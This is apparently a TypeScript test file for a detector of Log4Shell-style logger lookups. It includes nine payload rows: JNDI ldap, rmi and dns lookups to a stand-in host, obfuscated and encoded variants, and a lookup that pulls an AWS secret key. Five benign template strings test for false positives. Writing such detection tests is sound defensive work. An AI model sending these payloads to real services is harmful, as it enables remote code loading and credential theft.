// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the rows are what attackers and templates send
import { expect, test } from 'vitest';
import { lookup } from './lookup.ts';
import { missed, type Row, refused } from './rows.fixture.ts';

const attacks: readonly Row[] = [
  ['header user-agent', '${jndi:ldap://host.example/a}'],
  ['query q', '${${lower:j}ndi:${lower:l}dap://host.example/a}'],
  ['query q', '${${::-j}${::-n}${::-d}${::-i}:rmi://host.example/a}'],
  ['query q', '${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://host.example/a}'],
  ['body $.x', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://host.example}"],
  ['body $.x', '%24%7Bjndi%3Adns%3A%2F%2Fhost.example%7D'],
  ['header x-api', '${env:AWS_SECRET_ACCESS_KEY}'],
  ['query q', '${java:version}'],
  ['query q', '\\u0024{jndi:ldap://host.example/a}'],
];
const ordinary: readonly Row[] = [
  ['body $.template', 'Hello ${name}, your order ${order.id} is ready'],
  ['body $.run code', 'echo ${HOME:-/root}'],
  ['body $.workflow', '${{ env.NODE_VERSION }}'],
  ['body $.url', 'https://api.example.org/users/{id}'],
  ['body $.price', '$5 {approx}'],
];

test('lookups of a logger are found however they are nested', () => {
  expect(attacks).toHaveLength(9);
  expect(missed(lookup, attacks)).toEqual([]);
});

test('templates and shell defaults pass', () => {
  expect(ordinary).toHaveLength(5);
  expect(refused(lookup, ordinary)).toEqual([]);
});
